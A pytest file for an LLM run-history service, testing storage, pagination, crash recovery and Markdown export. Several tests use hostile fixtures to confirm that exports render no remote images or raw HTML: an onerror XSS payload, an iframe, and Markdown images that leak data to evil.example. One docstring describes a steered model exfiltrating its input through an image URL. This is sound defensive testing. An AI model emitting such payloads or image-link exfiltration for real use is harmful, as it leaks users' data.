"""Run history and figures."""

from __future__ import annotations

import base64
import json
import os
import signal
import time
from collections.abc import Callable
from pathlib import Path

import httpx2
import pytest
from markdown_it import MarkdownIt

from rlm_service import export as export_module
from rlm_service.engine import Engine, RunSettings
from rlm_service.events import CodeEvent, FinalEvent, InputInfo, RunLimits, RunUsage, StartEvent
from rlm_service.export import export_markdown
from rlm_service.store import RunRecord, RunStillLive
from rlm_service.store_sql import SqlRunStore
from rlm_service.store_sqlite import SqliteRunStore
from tests.conftest import (
    LiveServer,
    every_call,
    held_until_health_answers,
    make_settings,
    parse_sse,
    run_record,
    script,
    spawn_server,
    stream_run,
    wait_until,
)
from tests.fake_openai import FakeOpenAI

FINISH = "answer.update(content='done', ready=True)"

PLOT = (
    "import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\nimport numpy as np\n"
    "values = np.random.default_rng(0).normal(size=500)\nplt.hist(values, bins=20)\n"
    "plt.title('distribution')\nplt.show()"
)


def _start(run_id: str) -> StartEvent:
    limits = RunLimits(
        max_iterations=5, max_subcalls=10, exec_timeout_s=30, subcall_concurrency=4, max_output_chars=800
    )
    return StartEvent(run_id=run_id, model="m", sub_model="s", input=InputInfo(chars=3, lines=1), limits=limits)


def test_store_round_trip_and_pagination(store_factory: Callable[..., SqlRunStore]) -> None:
    store = store_factory()
    for index in range(5):
        store.begin(run_record(f"r{index}", 1000.0 + index))
        store.record(f"r{index}", _start(f"r{index}"))
        store.record(f"r{index}", CodeEvent(run_id=f"r{index}", iteration=1, code="x = 1"))
        store.record(
            f"r{index}",
            FinalEvent(
                run_id=f"r{index}", answer=f"answer {index}", ready=True, iterations=1, usage=RunUsage(), elapsed_ms=5
            ),
        )
    store.flush()
    page = store.list(limit=2, before=None)
    assert [r.id for r in page] == ["r4", "r3"]
    assert [r.id for r in store.list(limit=2, before=page[-1].created)] == ["r2", "r1"]
    record, events = store.get("r2")  # type: ignore[misc]
    assert record.status == "finished" and record.answer == "answer 2" and record.ready
    assert [e["type"] for e in events] == ["start", "code", "final"]
    markdown = export_markdown(record, events)
    assert "## Iteration 1" in markdown and "x = 1" in markdown and "answer 2" in markdown
    assert store.delete("r2") and store.get("r2") is None and not store.delete("r2")
    store.close()


def test_output_in_a_markdown_export_cannot_leave_its_code_block() -> None:
    """Old behaviour caught (the review): the fence was four backticks whenever the text held three, so output
    with four closed it and put its own heading and HTML in the report."""
    hostile = "````\n# Injected heading\n<img src=x onerror=alert(1)>\n`````"
    events = [
        _start("r1").model_dump(mode="json"),
        {"type": "output", "iteration": 1, "stdout": hostile, "error": None, "duration_ms": 5, "truncated": False},
    ]
    tokens = MarkdownIt().parse(export_markdown(run_record("r1", 1000.0), events))
    fences = [token.content for token in tokens if token.type == "fence"]
    assert any("# Injected heading" in content and "onerror" in content for content in fences), fences
    assert not any(token.type == "html_block" for token in tokens)
    assert all(token.content != "Injected heading" for token in tokens if token.type == "inline")


def test_a_markdown_export_loads_nothing_from_elsewhere_whatever_the_models_wrote() -> None:
    """The answer, the prose and the messages a steered model writes become a report that a Markdown renderer
    (CommonMark, markdown-it) displays without an image from elsewhere or any raw HTML, as the page does: the
    input cannot leave in an image's address. Fenced code stays as written. Old behaviour (the attack pass):
    `![x](https://evil.example/?d=…)` in the answer was an image in the report, and a child run's output left
    its code block from its second line on."""
    hostile = "\n".join(
        [
            "~~~",  # it would close a block the section before left open: the image after it would be prose
            "![in a block](https://evil.example/g)",
            "~~~",
            "Done ![x](https://evil.example/a?d=secret) and <img src=https://evil.example/b>",
            "![by reference][r]",
            "",
            "[r]: https://evil.example/c",
            "- a list item",
            "  ```",
            "![after an indented fence](https://evil.example/d)",  # the item ends here, and its block with it
            "```info`with a backtick is no fence",
            "![after a false fence](https://evil.example/e)",
            "<iframe src=https://evil.example/f></iframe>",
            "```rust",
            "let v = vec![1, 2]; // <b>kept</b>",
            "```",
            "~~~",
            "left open: the next section of the report must not start inside it",
        ]
    )
    events = [
        _start("r1").model_dump(mode="json"),
        {"type": "thought", "iteration": 1, "text": hostile},
        {
            "type": "final",
            "answer": hostile,
            "ready": True,
            "iterations": 1,
            "usage": {},
            "elapsed_ms": 5,
            "note": hostile,
        },
        {"type": "error", "code": "internal", "message": hostile},
        {"type": "child", "depth": 1, "event": "output", "data": {"stdout": hostile, "error": hostile}},
        {"type": "child", "depth": 1, "event": "error", "data": {"code": "internal", "message": hostile}},
    ]
    record = run_record("r1", 1000.0, prompt="```\n" + hostile)
    record.answer = hostile
    report = export_markdown(record, events)
    tokens = MarkdownIt().parse(report)
    inline = [child for token in tokens for child in token.children or []]
    images = [child.attrGet("src") for child in inline if child.type == "image"]
    html = [token.content for token in tokens + inline if token.type in ("html_block", "html_inline")]
    fences = [token.content for token in tokens if token.type == "fence"]
    assert images == [] and html == [], (images, html)
    # the prompt, the thought, the note, the error, the answer, and the child's message; its output's two blocks
    assert sum("let v = vec![1, 2]; // <b>kept</b>" in fence for fence in fences) == 8, fences
    assert "https://evil.example/a?d=secret" in report  # shown, as a link's address, not loaded


@pytest.mark.parametrize(
    "hostile",
    [
        "  ```\n```\n![x](https://evil.example/a)",  # an indented fence opens, an unindented one closes
        "```\n    ```\n```\n![x](https://evil.example/b)",  # four spaces: content, not a closing fence
        "```\n```\r![x](https://evil.example/c)\n```",  # a lone carriage return ends a line
        "x\n\t```\n```\n![x](https://evil.example/d)",  # in a child's quote a tab is two columns: a fence
        "```\n\t```\n```\n![x](https://evil.example/e)",  # and at the top four: content, not a closing fence
        "\\![x](https://evil.example/f)",  # the backslash before it is escaped itself, not the `!`
        "\\\\![x](https://evil.example/g)",
    ],
)
def test_a_markdown_export_reads_code_blocks_and_escapes_as_a_renderer_does(hostile: str) -> None:
    """Where the export's reading of a fence or an escape differs from CommonMark's, prose it leaves raw as
    code must not be prose to a renderer: each text, as prose, an answer, or a child's output or error,
    loads no image. Old behaviour (the review): each of these was an image in the report."""
    events = [
        _start("r1").model_dump(mode="json"),
        {"type": "thought", "iteration": 1, "text": hostile},
        {"type": "child", "depth": 1, "event": "error", "data": {"code": "internal", "message": hostile}},
        {"type": "child", "depth": 1, "event": "output", "data": {"stdout": "a\r" + hostile, "error": None}},
    ]
    record = run_record("r1", 1000.0, prompt=hostile)
    record.answer = hostile
    tokens = MarkdownIt().parse(export_markdown(record, events))
    inline = [child for token in tokens for child in token.children or []]
    assert [child.attrGet("src") for child in inline if child.type == "image"] == []


def test_a_running_run_is_not_deleted(store_factory: Callable[..., SqlRunStore]) -> None:
    """A run still running (here, or in another process of the history) is refused with `RunStillLive` and kept;
    once it has ended it is deleted. Mutant caught: the delete without its status check (the run was deleted
    while it went on, and its later events were written for a run the history no longer had)."""
    store = store_factory()
    store.begin(run_record("r1", 1000.0))
    store.record("r1", _start("r1"))
    store.flush()
    with pytest.raises(RunStillLive):
        store.delete("r1")
    assert store.get("r1") is not None
    store.record("r1", FinalEvent(run_id="r1", answer="a", ready=True, iterations=1, usage=RunUsage(), elapsed_ms=5))
    store.flush()
    assert store.delete("r1") and store.get("r1") is None
    store.close()


def test_a_run_left_running_is_marked_unfinished(tmp_path: Path) -> None:
    store = SqliteRunStore(tmp_path / "h.sqlite3")
    store.begin(run_record("crashed", 1.0))
    store.record("crashed", _start("crashed"))
    store.close()
    again = SqliteRunStore(tmp_path / "h.sqlite3")
    record, events = again.get("crashed")  # type: ignore[misc]
    assert record.status == "unfinished" and len(events) == 1
    again.close()


def test_server_crash_mid_run_leaves_an_unfinished_run(tmp_path: Path) -> None:
    slow = script({"code": ["import time\ntime.sleep(60)"]})
    with spawn_server(tmp_path) as server:
        with (
            httpx2.Client(timeout=30) as client,
            client.stream("POST", f"{server.url}/process", json={"prompt": slow}) as response,
        ):
            for event in parse_sse(response.iter_lines()):
                if event.event == "code":
                    run_id = event.data["run_id"]
                    time.sleep(0.3)  # the writer thread commits what it has
                    os.kill(server.pid, signal.SIGKILL)
                    break
        server.process.wait(10)
    with spawn_server(tmp_path) as server:
        runs = httpx2.get(f"{server.url}/api/runs").json()["runs"]
        assert runs[0]["id"] == run_id and runs[0]["status"] == "unfinished"
        events = httpx2.get(f"{server.url}/api/runs/{run_id}").json()["events"]
        assert events[0]["type"] == "start" and "code" in [e["type"] for e in events]
        # Re-attaching still ends with one terminal event (an EventSource would reconnect forever without it).
        # Mutant: the events route streaming the stored events as they are (the stream ends after `code`).
        with httpx2.Client(timeout=30) as client, client.stream("GET", f"{server.url}/api/runs/{run_id}/events") as r:
            replayed = list(parse_sse(r.iter_lines()))
        assert [e.event for e in replayed] == [e["type"] for e in events] + ["error"]
        assert replayed[-1].data["code"] == "lost" and "unfinished" in replayed[-1].data["message"]
        assert replayed[-1].data["seq"] == events[-1]["seq"] + 1


def test_a_run_just_ended_is_in_the_history_while_its_writes_are_still_queued(tmp_path: Path, fake: FakeOpenAI) -> None:
    """The history's writer thread is one second behind (a write ahead of the run's sleeps, as on a busy
    machine): a client that lists the history, or opens the run, right after its `final` still finds it,
    finished. Mutant: the history routes reading without waiting for this process's queued writes (the run is
    missing; the page's history list stays empty after a run)."""
    with LiveServer(make_settings(fake, rlm_history_db=str(tmp_path / "h.sqlite3"))) as server:
        server.app.state.store.queue(lambda db: time.sleep(1.0))
        _, events = stream_run(server.url, json_body={"prompt": script({"code": [FINISH]}), "input_data": "x"})
        listed = httpx2.get(f"{server.url}/api/runs").json()["runs"]
        opened = httpx2.get(f"{server.url}/api/runs/{events[0].data['run_id']}").json()
    assert events[-1].event == "final"
    assert [run["id"] for run in listed] == [events[0].data["run_id"]] and listed[0]["status"] == "finished"
    assert opened["events"][-1]["type"] == "final"


def test_history_api(tmp_path: Path, fake: FakeOpenAI) -> None:
    settings = make_settings(fake, rlm_history_db=str(tmp_path / "h.sqlite3"), rlm_api_token="tok")
    auth = {"Authorization": "Bearer tok"}
    with LiveServer(settings) as server:
        ids = []
        for index in range(3):
            _, events = stream_run(
                server.url, json_body={"prompt": f"task {index}", "input_data": f"data {index}"}, headers=auth
            )
            ids.append(events[0].data["run_id"])
        keep = script({"code": ["answer.update(content=context, ready=True)"]})
        _, kept = stream_run(
            server.url,
            json_body={"prompt": keep, "input_data": "keep me", "settings": {"keep_input": True}},
            headers=auth,
        )
        ids.append(kept[0].data["run_id"])
        assert httpx2.get(f"{server.url}/api/runs").status_code == 401
        client = httpx2.Client(base_url=server.url, headers=auth)
        first = client.get("/api/runs", params={"limit": 2}).json()
        assert [r["id"] for r in first["runs"]] == [ids[3], ids[2]] and first["next_before"]
        second = client.get("/api/runs", params={"limit": 2, "before": first["next_before"]}).json()
        assert [r["id"] for r in second["runs"]] == [ids[1], ids[0]]
        run = client.get(f"/api/runs/{ids[1]}").json()
        assert run["run"]["status"] == "finished" and run["run"]["prompt"] == "task 1"
        assert run["run"]["input_chars"] == 6 and len(run["run"]["input_sha256"]) == 64
        assert run["events"][0]["type"] == "start" and run["events"][-1]["type"] == "final"
        exported = client.get(f"/api/runs/{ids[1]}/export", params={"format": "md"})
        assert exported.headers["content-disposition"].endswith('.md"') and "# RLM run" in exported.text
        as_json = client.get(f"/api/runs/{ids[1]}/export").json()
        assert as_json["events"] == run["events"]
        assert client.get(f"/api/runs/{ids[1]}/export", params={"format": "pdf"}).status_code == 422
        for bad in ("nan", "inf"):  # old: 200, no run from SQLite and every run from PostgreSQL for nan
            refused = client.get("/api/runs", params={"before": bad})
            assert refused.status_code == 422, refused.text
            assert refused.json()["detail"][0]["loc"] == ["query", "before"], refused.text
        assert client.get(f"/api/runs/{ids[3]}/input").text == "keep me"
        assert client.get(f"/api/runs/{ids[1]}/input").status_code == 404
        assert client.delete(f"/api/runs/{ids[1]}").status_code == 204
        assert client.get(f"/api/runs/{ids[1]}").status_code == 404
        # nor is it served from memory, where ended runs stay a while (old: its events streamed whole, and a
        # cancel said 409, "already ended")
        assert client.get(f"/api/runs/{ids[1]}/events").status_code == 404
        assert client.post(f"/api/runs/{ids[1]}/cancel").status_code == 404
        assert client.delete(f"/api/runs/{ids[1]}").status_code == 404


@pytest.mark.parametrize("database", ["sqlite", "postgresql"])
def test_runs_created_at_the_same_time_are_each_listed_once_across_pages(
    request: pytest.FixtureRequest, database: str, tmp_path: Path, fake: FakeOpenAI
) -> None:
    """Five runs with the same `created` (processes or replicas that start runs at once; written through the
    store, as the API cannot time them), between a newer and an older run, paged two at a time as a client
    pages (`before` and `before_id` from the page before): every run is listed once, newest first, ties by id.
    Old behaviour: pages cut at `created < before` alone, so the tie group's runs after the first page's last
    one were never listed."""
    where = (
        {"rlm_database_url": request.getfixturevalue("pg_url")}
        if database == "postgresql"
        else {"rlm_history_db": str(tmp_path / "h.sqlite3")}
    )
    with LiveServer(make_settings(fake, **where)) as server:
        store = server.app.state.store
        runs = [("newest", 3000.0), *((f"tie{index}", 2000.0) for index in range(5)), ("oldest", 1000.0)]
        for run_id, created in runs:
            store.begin(run_record(run_id, created))
        assert store.flush()
        listed: list[str] = []
        params: dict[str, object] = {"limit": 2}
        with httpx2.Client(base_url=server.url, timeout=30) as client:
            for _ in range(len(runs) + 1):
                page = client.get("/api/runs", params=params).json()
                listed += [run["id"] for run in page["runs"]]
                if page["next_before"] is None:
                    break
                params = {"limit": 2, "before": page["next_before"]}
                if page.get("next_before_id") is not None:
                    params["before_id"] = page["next_before_id"]
            alone = client.get("/api/runs", params={"before_id": "tie2"})
    assert listed == ["newest", "tie4", "tie3", "tie2", "tie1", "tie0", "oldest"]
    # an id without its time cannot place a page (old: the first page again, so a client paged forever)
    assert alone.status_code == 422 and "before_id" in alone.json()["detail"]


def test_history_off_answers_404(live: LiveServer) -> None:
    response = httpx2.get(f"{live.url}/api/runs")
    assert response.status_code == 404 and "RLM_HISTORY_DB" in response.json()["detail"]


def test_a_history_file_deleted_while_the_server_runs_is_said_and_runs_go_on(tmp_path: Path, fake: FakeOpenAI) -> None:
    """The history's file deleted under a running server: every history read answered 500 (the read made a new,
    empty file and failed on its missing tables); it now answers 503 naming the file and what to do, makes no
    file, and runs go on. Mutant: `_read` connecting without `mode=rw`."""
    db = tmp_path / "h.sqlite3"
    body = {"prompt": script({"code": [FINISH]}), "input_data": "abc"}
    with LiveServer(make_settings(fake, rlm_history_db=str(db))) as server:
        assert stream_run(server.url, json_body=body)[1][-1].event == "final"
        run_id = httpx2.get(f"{server.url}/api/runs").json()["runs"][0]["id"]
        for path in tmp_path.glob("h.sqlite3*"):
            path.unlink()
        for route in ("", f"/{run_id}", f"/{run_id}/export?format=md"):
            response = httpx2.get(f"{server.url}/api/runs{route}")
            assert response.status_code == 503, (route, response.text)
            assert f"{db} is gone" in response.json()["detail"] and "restart the server" in response.json()["detail"]
        assert not db.exists()
        assert stream_run(server.url, json_body=body)[1][-1].event == "final"


def test_a_cancelled_run_is_recorded_as_cancelled(tmp_path: Path, fake: FakeOpenAI) -> None:
    settings = make_settings(fake, rlm_history_db=str(tmp_path / "h.sqlite3"))
    with LiveServer(settings) as server:
        slow = script({"code": ["import time\ntime.sleep(30)"]})
        with (
            httpx2.Client(timeout=30) as client,
            client.stream("POST", f"{server.url}/process", json={"prompt": slow}) as response,
        ):
            for event in parse_sse(response.iter_lines()):
                if event.event == "code":
                    break
        assert wait_until(lambda: httpx2.get(f"{server.url}/api/runs").json()["runs"][0]["status"] == "cancelled")


async def test_a_cell_that_plots_yields_a_figure_event(fake: FakeOpenAI) -> None:
    from pydantic_ai.messages import ModelResponse, TextPart, ToolCallPart
    from pydantic_ai.models.function import FunctionModel

    seen = []

    def root(messages: list, info: object) -> ModelResponse:
        seen.append(messages)
        turn = sum(1 for message in messages if isinstance(message, ModelResponse))
        code = [PLOT, "answer.update(content='plotted', ready=True)"][min(turn, 1)]
        return ModelResponse(parts=[TextPart("plotting"), ToolCallPart("run_python", {"code": code})])

    async with Engine(make_settings(fake), root_model=FunctionModel(root)) as engine:
        events = [event async for event in engine.run("plot the distribution", "1 2 3")]
    figures = [event for event in events if event.type == "figure"]
    assert len(figures) == 1 and figures[0].iteration == 1 and figures[0].mime == "image/png"
    assert base64.b64decode(figures[0].data).startswith(b"\x89PNG\r\n\x1a\n")
    output = next(event for event in events if event.type == "output")
    assert "non-interactive" not in output.stdout
    assert "1 figure shown to the user" in repr(seen[1])


@pytest.mark.parametrize("kept", [False, True])
async def test_engine_keeps_the_input_only_when_asked(
    store_factory: Callable[..., SqlRunStore], fake: FakeOpenAI, kept: bool
) -> None:
    store = store_factory()
    async with Engine(make_settings(fake), store=store) as engine:
        events = [e async for e in engine.run("x", "private data", RunSettings(keep_input=kept))]
    store.flush()
    run_id = events[0].run_id
    found = store.read_input(run_id)
    assert (found is not None) == kept
    if found is not None:
        assert found.size == len(b"private data") and b"".join(found.chunks) == b"private data"
    record, _ = store.get(run_id)  # type: ignore[misc]
    assert record.input_kept == kept and record.settings["keep_input"] == kept
    store.close()


def test_an_id_that_cannot_name_a_run_answers_404_on_every_route(tmp_path: Path, fake: FakeOpenAI) -> None:
    """A 5,000-character id made `/input` answer 500 (file name too long). Mutant: `valid_run_id` accepting
    everything (then `/input` and DELETE answer 500 again, and the 404s echo the whole id)."""
    with LiveServer(make_settings(fake, rlm_history_db=str(tmp_path / "h.sqlite3"))) as server:
        client = httpx2.Client(base_url=server.url)
        answers = {
            (run_id[:8], method, route): client.request(method, f"/api/runs/{run_id}{route}")
            for run_id in ["a" * 5000, "x.y", "%2e%2e", "a%00b", "é", "0" * 65]
            for method, route in [("GET", ""), ("GET", "/export"), ("GET", "/input"), ("DELETE", "")]
        }
        assert {key: response.status_code for key, response in answers.items() if response.status_code != 404} == {}
        assert all(len(response.json()["detail"]) < 200 for response in answers.values())
        assert client.get(f"/api/runs/{'a' * 64}/input").status_code == 404
        assert client.get("/health").json() == {"status": "ok"}


LONE = "\ud800"
"""A lone surrogate: JSON may carry one (as the escape `\\ud800`), and Python's parser keeps it, but UTF-8 cannot."""


def test_lone_surrogates_from_a_client_or_a_model_reach_the_stream_and_the_history_as_u_fffd(
    tmp_path: Path, fake: FakeOpenAI
) -> None:
    """One in a request's prompt kept the run out of the history (its first write failed, then every other);
    one in its answer schema made `GET /api/runs` answer 500 to everyone while the run was on the page; one in
    the root model's reply failed the event stream mid-run (and, the connection closed, the run was
    cancelled). Each is now U+FFFD. Mutants: `EventBase` without its validator (the stream ends at `start`);
    `launch` storing the prompt as given (the run is missing); `RunSettings` keeping the schema as given and the
    store reading it back as stored (500)."""
    thought = script({"text": f"thinking {LONE}", "code": ["answer.update(content='\"done\"', ready=True)"]})
    body = {
        "prompt": f"{thought} {LONE}",
        "input_data": "data",
        "settings": {"answer_schema": {"type": "string", "description": f"x{LONE}"}},
    }
    with (
        LiveServer(make_settings(fake, rlm_history_db=str(tmp_path / "h.sqlite3"))) as server,
        httpx2.Client(base_url=server.url, timeout=60) as client,
    ):
        # json.dumps escapes the surrogate as JSON allows; an HTTP client's encoder cannot send it at all
        content = json.dumps(body).encode()
        with client.stream(
            "POST", "/process", content=content, headers={"Content-Type": "application/json"}
        ) as response:
            events = list(parse_sse(response.iter_lines()))
        assert [event.event for event in events][-1:] == ["final"], events
        assert [event.data["text"] for event in events if event.event == "thought"] == ["thinking \ufffd"]
        run_id = events[0].data["run_id"]
        listed = client.get("/api/runs")
        assert listed.status_code == 200, listed.text
        assert [run["id"] for run in listed.json()["runs"]] == [run_id]
        run = client.get(f"/api/runs/{run_id}").json()
        assert run["run"]["prompt"] == f"{thought} \ufffd"
        assert run["run"]["settings"]["answer_schema"]["description"] == "x\ufffd"
        assert [event["type"] for event in run["events"]][-1] == "final"
        assert client.get(f"/api/runs/{run_id}/export", params={"format": "md"}).status_code == 200


def test_a_lone_surrogate_stored_by_an_older_version_is_listed_as_u_fffd(tmp_path: Path) -> None:
    """Older versions stored an answer schema's lone surrogate, JSON-escaped, in the run's settings, and every
    listing of the run then failed to encode. Mutant: the store reading the settings as stored."""
    store = SqliteRunStore(tmp_path / "h.sqlite3")
    record = run_record("r1", 1000.0)
    record.settings = {"answer_schema": {"description": f"x{LONE}"}}
    store.begin(record)
    store.flush()
    (listed,) = store.list(limit=5, before=None)
    assert listed.settings == {"answer_schema": {"description": "x\ufffd"}}
    json.dumps(listed.to_dict(), ensure_ascii=False).encode()
    store.close()


def test_the_history_list_shows_previews_of_a_60_mb_prompt(tmp_path: Path, fake: FakeOpenAI) -> None:
    """A run with a 60 MB prompt made every `GET /api/runs` 65 MB. List items carry 200 characters of it and its
    length; the run itself has it all. Mutant: `list()` reading the prompt with the run (the page is 60 MB)."""
    path = tmp_path / "h.sqlite3"
    prompt = "Ünïcode first. " + "x" * 60_000_000
    store = SqliteRunStore(path)
    store.begin(
        RunRecord(
            id="big0prompt000000",
            created=1.0,
            status="running",
            prompt=prompt,
            settings={},
            input_chars=0,
            input_lines=0,
            input_bytes=0,
        )
    )
    store.record(
        "big0prompt000000",
        FinalEvent(run_id="big0prompt000000", answer="short", ready=True, iterations=1, usage=RunUsage(), elapsed_ms=1),
    )
    store.begin(run_record("small0prompt0000", 2.0))
    assert store.flush()
    store.close()
    with LiveServer(make_settings(fake, rlm_history_db=str(path))) as server:
        started = time.monotonic()
        listed = httpx2.get(f"{server.url}/api/runs", timeout=60)
        print(f"GET /api/runs: {len(listed.content):,} bytes in {time.monotonic() - started:.3f} s")
        assert listed.status_code == 200 and len(listed.content) < 5000
        runs = {run["id"]: run for run in listed.json()["runs"]}
        assert runs["big0prompt000000"]["prompt_preview"] == prompt[:200]
        assert runs["big0prompt000000"]["prompt_chars"] == len(prompt) and "prompt" not in runs["big0prompt000000"]
        assert runs["big0prompt000000"]["answer_preview"] == "short"
        assert runs["small0prompt0000"]["prompt_preview"] == "task small0prompt0000"
        full = httpx2.get(f"{server.url}/api/runs/big0prompt000000", timeout=120).json()
        assert full["run"]["prompt"] == prompt and full["run"]["answer"] == "short"


@pytest.mark.parametrize("format, renderer", [("json", "export_json"), ("md", "export_markdown")])
def test_an_export_is_rendered_off_the_event_loop(
    tmp_path: Path, fake: FakeOpenAI, monkeypatch: pytest.MonkeyPatch, format: str, renderer: str
) -> None:
    """Rendering the export of a run of thousands of events takes a tenth of a second or more (12,000 events:
    /health held 117 ms by the JSON one), so it is done in a thread: here it waits until `/health` has answered.
    Mutant caught: `export_run` calling the renderer on the event loop (the health check times out)."""
    settings = make_settings(fake, rlm_history_db=str(tmp_path / "h.sqlite3"))
    with LiveServer(settings) as server:
        _, events = stream_run(server.url, json_body={"prompt": "a task", "input_data": "data"})
        run_id = events[0].data["run_id"]
        with held_until_health_answers(monkeypatch, server.url, export_module, renderer, every_call, "export"):
            exported = httpx2.get(f"{server.url}/api/runs/{run_id}/export", params={"format": format}, timeout=30)
    assert exported.status_code == 200 and run_id in exported.text
